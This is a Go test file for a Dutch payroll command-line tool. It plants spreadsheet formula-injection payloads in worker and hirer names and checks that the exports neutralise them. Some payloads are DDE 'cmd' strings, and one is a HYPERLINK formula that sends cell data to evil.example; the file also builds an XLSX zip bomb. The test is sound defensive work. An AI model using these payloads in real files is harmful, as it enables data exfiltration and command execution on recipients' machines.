package cli_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/xml"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"verloner/app/importing"
	"verloner/app/sqlite"
	"verloner/domain"
	"verloner/importers"
)

// Payloads a hirer's file could carry into names: spreadsheet formulas
// (run when a cell is edited or the file is opened) and XML specials.
const (
	evilWorker    = `=HYPERLINK("http://evil.example/?d="&A1;"klik")`
	evilWorker2   = `+cmd|' /C calc'!A0`
	evilHirer     = `@SUM(1+1)*cmd|' /C calc'!A0`
	evilFunction  = `-2+3+cmd|' /C calc'!A0`
	evilCentre    = `=1+1`
	xmlWorkerName = `Jansen <&> "Zn" 'o`
	xmlHirerName  = `Bouw & Zn <Noord> B.V.`
)

var payloads = []string{evilWorker, evilWorker2, evilHirer, evilFunction, evilCentre}

// injectNames puts the payloads into the demo's master data where hirers'
// files put them: names of paid workers, a hirer, a function and a cost centre.
func injectNames(t *testing.T, db string) {
	t.Helper()
	ctx := context.Background()
	st, err := sqlite.Open(ctx, db)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ws, err := st.Workers(ctx)
	if err != nil {
		t.Fatal(err)
	}
	ps, err := st.Placements(ctx)
	if err != nil {
		t.Fatal(err)
	}
	byNumber := map[string]*domain.Worker{}
	for _, w := range ws {
		byNumber[w.Number] = w
	}
	placementOf := func(w *domain.Worker) *domain.Placement {
		for _, p := range ps {
			if p.WorkerID == w.ID {
				return p
			}
		}
		t.Fatalf("no placement for %s", w.Number)
		return nil
	}
	rename := func(nr, first, last string) *domain.Worker {
		w := byNumber[nr]
		w.FirstName, w.Prefix, w.LastName = first, "", last
		if err := st.SaveWorker(ctx, w); err != nil {
			t.Fatal(err)
		}
		return w
	}
	w1 := rename("1004", evilWorker, "Wiśniewska")
	rename("1006", evilWorker2, "Berg")
	w3 := rename("1009", "Ewa", xmlWorkerName) // at another hirer than 1004
	p := placementOf(w1)
	p.Function, p.CostCentre = evilFunction, evilCentre
	if err := st.SavePlacement(ctx, p); err != nil {
		t.Fatal(err)
	}
	if placementOf(w3).HirerID == p.HirerID {
		t.Fatal("the payloads need two hirers")
	}
	for hirerID, name := range map[int64]string{p.HirerID: evilHirer, placementOf(w3).HirerID: xmlHirerName} {
		h, err := st.Hirer(ctx, hirerID)
		if err != nil {
			t.Fatal(err)
		}
		h.Name = name
		if err := st.SaveHirer(ctx, h); err != nil {
			t.Fatal(err)
		}
	}
}

// secrets are the demo workers' whole BSNs and IBANs, in the forms a
// message could print them.
func secrets(t *testing.T, db string) []string {
	t.Helper()
	st, err := sqlite.Open(context.Background(), db)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ws, err := st.Workers(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, w := range ws {
		if domain.ValidBSN(w.BSN) {
			out = append(out, w.BSN)
		}
		if iban := domain.NormalizeIBAN(w.IBAN); domain.ValidIBAN(iban) {
			grouped := ""
			for i := 0; i < len(iban); i += 4 {
				grouped += iban[i:min(i+4, len(iban))] + " "
			}
			out = append(out, iban, strings.TrimSpace(grouped), iban[8:]) // also the bare account number
		}
	}
	if len(out) < 30 {
		t.Fatalf("only %d secrets in the demo", len(out))
	}
	return out
}

// TestDemoWeek_PrivacyPermissionsAndInjection runs the demo week end to end
// through the commands — with payloads in names — and checks:
//   - no stdout or stderr of any command (with --json, and the error paths)
//     holds a worker's whole BSN or IBAN;
//   - the administration, its backups and every exported file are 0600 in
//     0700 folders (payroll, invoices, checklist, debtors, margin);
//   - no XLSX export has a formula other than the intended ones (SUM totals,
//     the margin workbook's figures), every payload lands as text with the
//     text format, exactly as it was;
//   - UBL and SEPA files are well-formed XML with the names escaped.
func TestDemoWeek_PrivacyPermissionsAndInjection(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the whole demo week")
	}
	t.Setenv("XDG_DATA_HOME", t.TempDir())
	dir := t.TempDir()
	db := filepath.Join(dir, "administratie", "demo.verloner")
	out := filepath.Join(dir, "export")
	var outputs []string
	cmd := func(want int, args ...string) string {
		t.Helper()
		code, stdout, stderr := run(t, args...)
		outputs = append(outputs, strings.Join(args, " ")+"\n"+stdout+stderr)
		if code != want {
			t.Fatalf("%v: exit %d, want %d\n%s%s", args, code, want, stdout, stderr)
		}
		return stdout
	}
	cmd(0, "demo", "--db", db)
	injectNames(t, db)
	secret := secrets(t, db)

	cmd(0, "list", "workers", "--db", db, "--json")
	cmd(0, "list", "placements", "--db", db, "--json")
	// A placement list with a BSN that another worker has, and an IBAN
	// that belongs to a demo worker: the messages must not repeat them.
	st, _ := sqlite.Open(context.Background(), db)
	ws, _ := st.Workers(context.Background())
	st.Close()
	var known *domain.Worker
	for _, w := range ws {
		if domain.ValidBSN(w.BSN) && domain.ValidIBAN(w.IBAN) {
			known = w
			break
		}
	}
	list := writeFile(t, dir, "plaatsingen.csv", "Employee number,BSN,IBAN,Last name,First name,Hirer,Placement,Start date,Hourly wage,Bill rate\n"+
		"1099,"+known.BSN+","+known.IBAN+",Dubbel,Dirk,INL01,PL0599,2026-11-23,15.85,27.90\n"+
		"1098,12345678,NL00ABNA0123456789,Fout,Fien,INL01,PL0598,2026-11-23,15.85,27.90\n")
	cmd(1, "import", "placements", list, "--db", db, "--json")
	cmd(1, "import", "placements", list, "--db", db)
	cmd(1, "advance", "add", "--db", db, "--worker", "1005", "--period", "2026-W47", "--amount", "100,00") // invalid BSN: refused
	cmd(0, "advance", "add", "--db", db, "--worker", known.Number, "--period", "2026-W47", "--amount", "50,00")
	cmd(0, "advance", "list", "--db", db)
	cmd(0, "proof", "add", "--db", db, "--hirer", "INL01", "--period", "2026-W47", "--kind", "urenstaat", "--ref", "week47.pdf")
	cmd(2, "check", "--db", db, "--period", "2026-W47", "--json", "--out", filepath.Join(out, "controle"))
	cmd(2, "check", "--db", db, "--period", "2026-W47")
	cmd(0, "payroll", "--db", db, "--period", "2026-W47", "--proof", "--json", "--out", filepath.Join(out, "proef"))
	cmd(0, "payroll", "--db", db, "--period", "2026-W47", "--approve", "--json")
	cmd(0, "payroll", "--db", db, "--period", "2026-W47", "--final", "--json", "--out", filepath.Join(out, "verloning"))
	cmd(0, "payroll", "--db", db, "--period", "2026-W47")
	cmd(0, "invoice", "--db", db, "--period", "2026-W47", "--json")
	cmd(0, "invoice", "--db", db, "--period", "2026-W47", "--issue", "--date", "2026-11-23", "--json", "--out", filepath.Join(out, "facturen"))
	cmd(0, "credit", "--db", db, "--invoice", "2026-000001", "--date", "2026-11-30", "--json", "--out", filepath.Join(out, "facturen"))
	camt := `<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><GrpHdr><MsgId>X</MsgId><CreDtTm>2026-12-08T06:00:00</CreDtTm></GrpHdr>
<Stmt><Id>1</Id><Acct><Id><IBAN>NL67INGB0006543210</IBAN></Id></Acct>
<Ntry><Amt Ccy="EUR">100.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts><BookgDt><Dt>2026-12-07</Dt></BookgDt><AcctSvcrRef>A1</AcctSvcrRef>
<NtryDtls><TxDtls><RltdPties><Dbtr><Nm>D. Dubbel</Nm></Dbtr><DbtrAcct><Id><IBAN>` + known.IBAN + `</IBAN></Id></DbtrAcct></RltdPties>
<RmtInf><Ustrd>Factuur 2026-000002</Ustrd></RmtInf></TxDtls></NtryDtls></Ntry>
</Stmt></BkToCstmrStmt></Document>`
	bank := writeFile(t, dir, "camt053.xml", camt)
	cmd(0, "payments", "import", bank, "--db", db, "--json")
	cmd(0, "payments", "import", bank, "--db", db, "--commit")
	cmd(0, "debtors", "--db", db, "--date", "2026-12-08", "--json", "--out", filepath.Join(out, "debiteuren"))
	cmd(0, "margin", "--db", db, "--period", "2026-W47", "--json", "--out", filepath.Join(out, "marge"))
	cmd(0, "loonstaat", "--db", db, "--year", "2026", "--json", "--out", filepath.Join(out, "loonstaat"))
	cmd(0, "jaaropgaaf", "--db", db, "--year", "2026", "--json", "--out", filepath.Join(out, "jaaropgaaf"))
	cmd(0, "proforma", "--year", "2026", "--wage", "16.10", "--age", "30", "--rate", "26.57", "--hirer", evilHirer, "--json",
		"--out", filepath.Join(out, "proforma"))
	cmd(0, "backup", "--db", db, "--json")
	cmd(0, "backup", "--db", db, "--list", "--json")

	// The hours export (the GUI's "uren exporteren") goes through the same writer.
	st, err := sqlite.Open(context.Background(), db)
	if err != nil {
		t.Fatal(err)
	}
	var hours bytes.Buffer
	if _, err := importing.New(st).ExportHours(context.Background(), &hours, domain.Date(2026, 11, 16), domain.Date(2026, 11, 22)); err != nil {
		t.Fatal(err)
	}
	st.Close()
	if err := os.WriteFile(filepath.Join(out, "uren.xlsx"), hours.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}

	// 1. No whole BSN or IBAN of a worker in any output.
	for _, o := range outputs {
		for _, s := range secret {
			if strings.Contains(o, s) {
				t.Errorf("output of `%s` holds %s", strings.SplitN(o, "\n", 2)[0], s)
			}
		}
		assertNoBSNOutsidePaths(t, o)
	}

	// 2. Private files in private folders.
	private(t, db)
	for _, p := range []string{filepath.Dir(db), filepath.Join(filepath.Dir(db), "backups")} {
		privateDir(t, p)
	}
	entries, _ := filepath.Glob(filepath.Join(filepath.Dir(db), "backups", "*"))
	for _, e := range entries {
		private(t, e)
	}
	kinds := map[string]int{}
	filepath.WalkDir(out, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			t.Fatal(err)
		}
		if d.IsDir() {
			privateDir(t, p)
			return nil
		}
		if p != filepath.Join(out, "uren.xlsx") {
			private(t, p)
		}
		kinds[filepath.Base(filepath.Dir(p))+" "+filepath.Ext(p)]++
		return nil
	})
	for _, want := range []string{"controle .xlsx", "verloning .pdf", "verloning .xlsx", "verloning .xml", "facturen .pdf", "facturen .xlsx",
		"facturen .xml", "debiteuren .xlsx", "marge .xlsx", "loonstaat .xlsx", "proforma .xlsx"} {
		if kinds[want] == 0 {
			t.Errorf("no %s file exported (%v)", want, kinds)
		}
	}

	// 3. Formulas only where intended, payloads as text.
	seen := map[string]bool{}
	books, formulas := 0, 0
	filepath.WalkDir(out, func(p string, d fs.DirEntry, err error) error {
		if !d.IsDir() && filepath.Ext(p) == ".xlsx" {
			found, n := checkWorkbook(t, p)
			for _, pl := range found {
				seen[pl] = true
			}
			books, formulas = books+1, formulas+n
		}
		return nil
	})
	t.Logf("%d XLSX exports read back, %d formula cells (all intended), payloads as text: %d of %d", books, formulas, len(seen), len(payloads))
	for _, pl := range payloads {
		if !seen[pl] {
			t.Errorf("payload %q not found in any XLSX export: the test did not test it", pl)
		}
	}

	// 4. XML well-formed, names escaped and read back.
	sepa, _ := filepath.Glob(filepath.Join(out, "verloning", "*.xml"))
	ubl, _ := filepath.Glob(filepath.Join(out, "facturen", "*.xml"))
	if len(sepa) != 1 || len(ubl) == 0 {
		t.Fatalf("SEPA %v, UBL %v", sepa, ubl)
	}
	foundHirer := false
	for _, p := range ubl {
		text := xmlText(t, p)
		foundHirer = foundHirer || strings.Contains(text, xmlHirerName)
	}
	if !foundHirer {
		t.Errorf("no UBL invoice names %q as it is", xmlHirerName)
	}
	if text := xmlText(t, sepa[0]); !strings.Contains(text, "Jansen") {
		t.Errorf("SEPA file does not name the worker %q", xmlWorkerName)
	}
}

func private(t *testing.T, p string) {
	t.Helper()
	fi, err := os.Stat(p)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o600 {
		t.Errorf("%s has mode %v, want 0600", p, fi.Mode().Perm())
	}
}

func privateDir(t *testing.T, p string) {
	t.Helper()
	fi, err := os.Stat(p)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o700 {
		t.Errorf("folder %s has mode %v, want 0700", p, fi.Mode().Perm())
	}
}

// xmlText checks that the file is well-formed XML and returns its character
// data (entities decoded).
func xmlText(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	dec := xml.NewDecoder(bytes.NewReader(b))
	var text strings.Builder
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("%s is not well-formed XML: %v", filepath.Base(p), err)
		}
		if cd, ok := tok.(xml.CharData); ok {
			text.Write(cd)
			text.WriteByte('\n')
		}
	}
	return text.String()
}

var (
	// intendedFormulas are the functions the exports use on purpose:
	// totals everywhere, the margin workbook's recalculable figures.
	intendedFormulas = map[string]bool{"SUM": true}
	marginFormulas   = map[string]bool{"SUM": true, "SUMIFS": true, "SUMIF": true, "ROUND": true, "IF": true, "IFERROR": true,
		"SUMPRODUCT": true, "COUNTIFS": true, "COUNTIF": true, "MAX": true, "MIN": true, "ABS": true}
	funcName = regexp.MustCompile(`([A-Z][A-Z0-9.]*)\(`)
)

// checkWorkbook reads every cell of an XLSX export: a formula is one of the
// intended functions and never carries a payload; a cell whose text starts
// like a formula is a string cell with the text format. It returns the
// payloads found (as text) and the number of formula cells.
func checkWorkbook(t *testing.T, p string) ([]string, int) {
	t.Helper()
	allowed := intendedFormulas
	if base := filepath.Base(p); strings.HasPrefix(base, "marge") || strings.HasPrefix(base, "managementrapportage") {
		allowed = marginFormulas
	}
	f, err := excelize.OpenFile(p)
	if err != nil {
		t.Fatalf("%s: %v", p, err)
	}
	defer f.Close()
	assertNoFormulaParts(t, p)
	var found []string
	formulas := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatalf("%s %s: %v", p, sheet, err)
		}
		for r, row := range rows {
			for c := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, err := f.GetCellFormula(sheet, cell)
				if err != nil {
					t.Fatal(err)
				}
				where := fmt.Sprintf("%s %s!%s", filepath.Base(p), sheet, cell)
				if formula != "" {
					formulas++
					for _, m := range funcName.FindAllStringSubmatch(formula, -1) {
						if !allowed[m[1]] {
							t.Errorf("%s: formula %q uses %s", where, formula, m[1])
						}
					}
					for _, marker := range []string{"HYPERLINK", "cmd", "evil", "calc"} {
						if strings.Contains(formula, marker) {
							t.Errorf("%s: a payload became a formula: %q", where, formula)
						}
					}
					continue
				}
				v := row[c]
				if v == "" || !importersDangerous(v) {
					continue
				}
				for _, pl := range payloads {
					if strings.Contains(v, pl) {
						found = append(found, pl)
					}
				}
				typ, _ := f.GetCellType(sheet, cell)
				if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("%s: %q is a cell of type %v, want a string", where, v, typ)
				}
				style, _ := f.GetCellStyle(sheet, cell)
				st, err := f.GetStyle(style)
				if err != nil || st.NumFmt != 49 {
					fmtNr := -1
					if st != nil {
						fmtNr = st.NumFmt
					}
					t.Errorf("%s: %q lacks the text format (number format %d)", where, v, fmtNr)
				}
			}
		}
	}
	sort.Strings(found)
	return found, formulas
}

// importersDangerous says whether text could be read as a formula when
// edited: it starts with =, +, -, @, a tab or a carriage return (a negative
// number is a number).
func importersDangerous(s string) bool {
	if _, err := strconv.ParseFloat(s, 64); err == nil {
		return false
	}
	return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0]))
}

// assertNoFormulaParts checks the raw parts: no external links, no
// DDE/HYPERLINK anywhere in the package.
func assertNoFormulaParts(t *testing.T, p string) {
	t.Helper()
	zr, err := zip.OpenReader(p)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	for _, f := range zr.File {
		if strings.Contains(f.Name, "externalLink") {
			t.Errorf("%s has an external link part %s", filepath.Base(p), f.Name)
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		for _, f := range regexp.MustCompile(`<f[^>]*>([^<]*)</f>`).FindAllSubmatch(b, -1) {
			if bytes.Contains(f[1], []byte("HYPERLINK")) || bytes.Contains(f[1], []byte("cmd")) {
				t.Errorf("%s: raw formula %q", filepath.Base(p), f[1])
			}
		}
	}
}

// TestImport_LimitsThroughTheCommand feeds `verloner import` a file over
// the size limit (a sparse file: nothing is read), an XLSX zip bomb and a
// sheet with more rows than allowed (the limit lowered for the test): each
// is refused with its message, exit 1, and nothing is stored.
func TestImport_LimitsThroughTheCommand(t *testing.T) {
	db := demoFile(t)
	dir := t.TempDir()
	files := func() int {
		t.Helper()
		st, err := sqlite.Open(context.Background(), db)
		if err != nil {
			t.Fatal(err)
		}
		defer st.Close()
		fs, err := st.ImportFiles(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		return len(fs)
	}
	before := files()

	big := filepath.Join(dir, "groot.xlsx")
	f, err := os.Create(big)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(importers.MaxFileSize + 1); err != nil {
		t.Fatal(err)
	}
	f.Close()

	var bomb bytes.Buffer
	zw := zip.NewWriter(&bomb)
	w, _ := zw.Create("xl/worksheets/sheet1.xml")
	zeros := make([]byte, 1<<20)
	for i := 0; i < 64; i++ {
		w.Write(zeros)
	}
	zw.Close()
	bombFile := filepath.Join(dir, "bom.xlsx")
	os.WriteFile(bombFile, bomb.Bytes(), 0o600)

	var rows strings.Builder
	rows.WriteString("Personeelsnummer;Datum;Uursoort;Aantal\n")
	for i := 0; i < 60; i++ {
		fmt.Fprintf(&rows, "1001;%d-11-2026;Normaal;1\n", 16+i%5)
	}
	long := writeFile(t, dir, "lang.csv", rows.String())

	for _, tc := range []struct {
		name, file, msg string
		rows            int
	}{
		{"size", big, "de grens is 50 MB", 0},
		{"zip bomb", bombFile, "zip-bom", 0},
		{"rows", long, "meer dan 50 rijen", 50},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.rows > 0 {
				old := importers.MaxRows
				importers.MaxRows = tc.rows
				defer func() { importers.MaxRows = old }()
			}
			for _, args := range [][]string{{"import", "hours", tc.file, "--db", db, "--hirer", "INL01"},
				{"import", "hours", tc.file, "--db", db, "--hirer", "INL01", "--commit", "--json"}} {
				code, out, stderr := run(t, args...)
				if code != 1 || !strings.Contains(out+stderr, tc.msg) {
					t.Errorf("%v: exit %d, want 1 with %q\n%s%s", args[3:], code, tc.msg, out, stderr)
				}
			}
			if n := files(); n != before {
				t.Errorf("%d import files after a refused file, %d before", n, before)
			}
		})
	}
}
